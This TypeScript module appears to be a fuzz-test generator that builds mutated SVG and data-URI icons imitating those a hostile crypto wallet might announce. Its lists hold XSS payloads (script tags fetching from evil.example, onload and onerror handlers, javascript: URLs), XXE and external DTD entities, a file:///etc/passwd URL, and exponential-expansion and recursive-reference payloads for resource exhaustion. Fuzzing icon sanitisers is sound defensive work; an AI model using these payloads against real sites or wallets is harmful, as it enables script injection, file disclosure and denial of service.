/** Icons as hostile wallets announce them: mutated by dice from a few that would have an effect. */
import { ALICE } from './announce.ts'
import type { Dice } from './seeded.ts'

const XMLNS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
const svg = (body: string, attributes = 'viewBox="0 0 36 36"'): string => `<svg ${XMLNS} ${attributes}>${body}</svg>`
const EVIL = 'https://evil.example'

/** Each part uses the one before it ten times. */
const tower = (element: string, link: (id: string) => string, stories: number): string =>
  Array.from(
    { length: stories },
    (_, at) =>
      `<${element} id="t${at}">${(at > 0 ? link(`t${at - 1}`) : '<path d="M0 0h9v9"/>').repeat(10)}</${element}>`,
  ).join('')

const BODIES: readonly string[] = [
  '<rect width="36" height="36" fill="red"/>',
  '<script>parent.ran?.();fetch("https://evil.example/s")</script>',
  `<script href="${EVIL}/s.js"/>`,
  '<rect width="9" height="9" onload="ran()" onclick="ran()" onbegin="ran()"/>',
  '<foreignObject width="36" height="36"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/f"/></foreignObject>',
  '<foreignObject width="99999" height="99999"><body xmlns="http://www.w3.org/1999/xhtml" onload="ran()">x</body></foreignObject>',
  `<image href="${EVIL}/i.png" width="36" height="36"/>`,
  `<use xlink:href="${EVIL}/u.svg#a"/>`,
  `<style>@import "${EVIL}/a.css";rect{fill:url(${EVIL}/b.svg#c)}@font-face{font-family:x;src:url(${EVIL}/d)}text{font-family:x}</style><text>x</text>`,
  `<a href="javascript:ran()"><rect width="36" height="36"/></a>`,
  '<rect width="36" height="36"><animate attributeName="x" to="36" dur=".01s" repeatCount="indefinite"/></rect>'.repeat(
    50,
  ),
  '<set attributeName="onload" to="ran()"/>',
  '<style>@keyframes a{to{transform:rotate(1turn)}}rect{animation:a .01s infinite}</style><rect width="9" height="9"/>',
  `<filter id="f"><feImage href="${EVIL}/e.png"/><feTurbulence numOctaves="9999"/></filter><rect width="36" height="36" filter="url(#f)"/>`,
  `<defs>${tower('g', (id) => `<use href="#${id}"/>`, 8)}</defs>`,
  tower('mask', (id) => `<path d="M0 0h9v9" mask="url(#${id})"/>`, 8),
  tower('clipPath', (id) => `<path d="M0 0h9v9" clip-path="url(#${id})"/>`, 8),
  '<g>'.repeat(20_000),
  `<path d="M0 0${' l1 1'.repeat(20_000)}"/>`,
  `<image width="36" height="36" href="data:image/svg+xml,${encodeURIComponent(svg(`<defs>${tower('g', (id) => `<use href="#${id}"/>`, 8)}</defs>`))}"/>`,
  `<desc>${'a'.repeat(300_000)}</desc>`,
  `<text>${ALICE}</text>`,
]

const SIZES: readonly string[] = [
  'viewBox="0 0 36 36"',
  'width="1000000" height="1000000"',
  'width="0" height="0"',
  'viewBox="0 0 1e-30 1e30"',
  'style="position:fixed;inset:0"',
]
const DOCTYPES: readonly string[] = [
  '',
  '<?xml version="1.0"?>',
  `<?xml-stylesheet href="${EVIL}/x.xsl" type="text/xsl"?>`,
  `<!DOCTYPE svg SYSTEM "${EVIL}/d.dtd">`,
  '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
  `<!DOCTYPE svg [<!ENTITY x SYSTEM "${EVIL}/x">]>`,
]
const HEADS: readonly string[] = [
  'data:image/svg+xml,',
  'data:image/svg+xml;utf8,',
  'DATA:IMAGE/SVG+XML;charset=utf-16,',
  ' \n\tdata:image/svg+xml,',
  'data:image/svg+xml;base64,',
  'data:image/svg+xml;base64,',
  'data:image/png;base64,',
  'data:image/png,',
  'data:text/html,',
  'data:text/html;base64,',
  'data:application/xhtml+xml,',
  'data:,',
  'data:image/svg+xmlx,',
  'data:image/svg+xml',
]
const PLAIN: readonly string[] = [
  'javascript:ran()',
  'java\nscript:ran()',
  `${EVIL}/icon.png`,
  'http://evil.example/icon.svg',
  '//evil.example/icon.png',
  '/icon.png',
  'icon.svg',
  'blob:https://evil.example/6f1b',
  'file:///etc/passwd',
  'filesystem:https://evil.example/temporary/x',
  'ws://evil.example',
  'chrome://settings',
  'about:blank',
  `url(${EVIL}/x)`,
  `" onerror="ran()" x="`,
  `x" srcset="${EVIL}/a 1x`,
  'data:image/png;base64,iVBORw0KGgo=',
  `data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7`,
  `data:image/png;base64,${'A'.repeat(300_000)}`,
  '',
]

/** The text of an icon. */
export function mutatedIcon(cast: Dice): string {
  if (cast.number(5) === 0) return cast.pick(PLAIN)
  // Some are what they should be, so that it shows when nothing gets through at all.
  if (cast.number(8) === 0) return `data:image/svg+xml,${encodeURIComponent(svg(BODIES[0]!))}`
  let text = cast.pick(DOCTYPES) + svg(cast.pick(BODIES), cast.pick(SIZES))
  for (let changes = cast.number(3); changes > 0; changes--) {
    const at = cast.number(text.length)
    text =
      text.slice(0, at) +
      cast.pick(['', '<', '"', '\u0000', '%', '&', '#', cast.pick(BODIES).slice(0, 2_000)]) +
      text.slice(at + 1)
  }
  const head = cast.pick(HEADS)
  if (/base64/i.test(head)) return head + (cast.number(4) === 0 ? text : btoa(text))
  return head + cast.pick([encodeURIComponent, encodeURI, (raw: string) => raw])(text)
}
